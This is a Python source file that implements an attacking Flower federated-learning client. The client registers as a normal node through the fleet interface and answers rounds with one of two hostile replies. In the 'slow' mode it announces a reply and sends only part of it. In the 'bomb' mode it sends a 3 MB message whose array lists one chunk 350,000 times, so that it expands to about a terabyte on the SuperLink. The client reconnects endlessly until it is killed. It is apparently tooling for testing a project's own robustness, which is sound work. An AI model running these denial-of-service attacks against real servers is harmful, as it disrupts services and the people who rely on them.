"""A registered node that attacks: it speaks Flower's fleet interface itself, without a SuperNode.

    python attackers.py KIND SUPERLINK CA-FILE KEY-FILE NUMBER

It says who it is as any client does, and answers the messages of a round

    slow    by announcing a reply, of which it sends one part and never the others
    bomb    with 3 MB whose array lists one chunk 350,000 times: a terabyte

It goes on when the SuperLink was away, until it is killed.
"""

import json
import os
import subprocess
import sys
import time
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from flwr.app import ArrayRecord, ConfigRecord, Message, MetricRecord, RecordDict
from flwr.app.message import Array
from flwr.app.message.arraychunk import ArrayChunk
from flwr.proto.message_pb2 import ObjectTree
from flwr.supercore.inflatable.inflatable_object import (
    get_all_nested_objects,
    get_object_id,
    get_object_tree,
)
from flwr.supernode.fleet_http_connection import http_request_response

from mixfl.deploy.flower.processes import end_with

Sent = tuple[ObjectTree, dict[str, bytes]]
POPULATION = "federated"
REPEATED, CHUNK = 350_000, 3 << 20


def whole(reply: Message) -> Sent:
    parts = get_all_nested_objects(reply)
    return get_object_tree(reply), {name: part.deflate() for name, part in parts.items()}


def hello(message: Message, number: int) -> Sent:
    who = ConfigRecord({"population": POPULATION, "number": str(number), "version": 4})
    return whole(Message(RecordDict({"hello": who, "rows": ArrayRecord({})}), reply_to=message))


def slow(message: Message) -> Sent:
    own = ArrayRecord({"w": Array("float32", (3,), "mixfl.little-endian", bytes(12))})
    numbers = MetricRecord({"weight": 1.0, "steps": 1.0, "loss": 1.0})
    tree, contents = whole(
        Message(RecordDict({"weighted": own, "numbers": numbers}), reply_to=message)
    )
    return tree, dict(list(contents.items())[:1])


def bomb(message: Message) -> Sent:
    def part(kind: str, child: bytes, body: bytes) -> bytes:
        return f"{kind} {get_object_id(child)} {len(body)}\0".encode() + body

    chunk = ArrayChunk(data=memoryview(bytes(CHUNK))).deflate()
    listed = {"dtype": "float32", "shape": [3], "stype": "mixfl.little-endian",
              "arraychunk_ids": [0] * REPEATED}  # fmt: skip
    array = part("Array", chunk, json.dumps(listed).encode())
    record = part("ArrayRecord", array, json.dumps({"w": get_object_id(array)}).encode())
    records = part("RecordDict", record, json.dumps({"weighted": get_object_id(record)}).encode())
    honest = Message(RecordDict(), reply_to=message).deflate()
    root = part("Message", records, honest[honest.index(b"\0") + 1 :])
    contents = [chunk, array, record, records, root]
    tree: ObjectTree | None = None
    for content in contents:
        tree = ObjectTree(object_id=get_object_id(content), children=[tree] if tree else [])
    assert tree is not None
    return tree, {get_object_id(content): content for content in contents}


def attack(kind: str, superlink: str, authority: Path, key: Path, number: int) -> None:
    private = serialization.load_ssh_private_key(key.read_bytes(), None)
    keys = private, private.public_key()
    with http_request_response(superlink, False, authority.read_bytes(), keys) as connection:
        _, receive, send, _, _, _, push_object, confirm = connection
        print(f"{kind}: connected", flush=True)
        while True:
            received = receive()
            if received is None:
                time.sleep(0.5)
                continue
            message, _ = received
            meta = message.metadata
            confirm(meta.run_id, meta.message_id)
            if meta.message_type == "query":
                tree, contents = hello(message, number)
            else:
                tree, contents = {"slow": slow, "bomb": bomb}[kind](message)
            reply = Message(RecordDict(), reply_to=message)
            reply.metadata.__dict__["_message_id"] = tree.object_id
            wanted, session = send(reply, tree, 1.0)
            for name, content in contents.items():
                if name in wanted:
                    push_object(meta.run_id, session, name, content)
            print(f"{kind}: {meta.message_type} answered in its own way", flush=True)


if __name__ == "__main__":
    kind, superlink, authority, key, number, *once = sys.argv[1:]
    if once:
        attack(kind, superlink, Path(authority), Path(key), int(number))
    while True:  # flwr ends its process where the SuperLink is away, or refuses it for now
        command = [sys.executable, *sys.argv, "once"]
        subprocess.run(command, preexec_fn=end_with(os.getpid()))
        time.sleep(2)
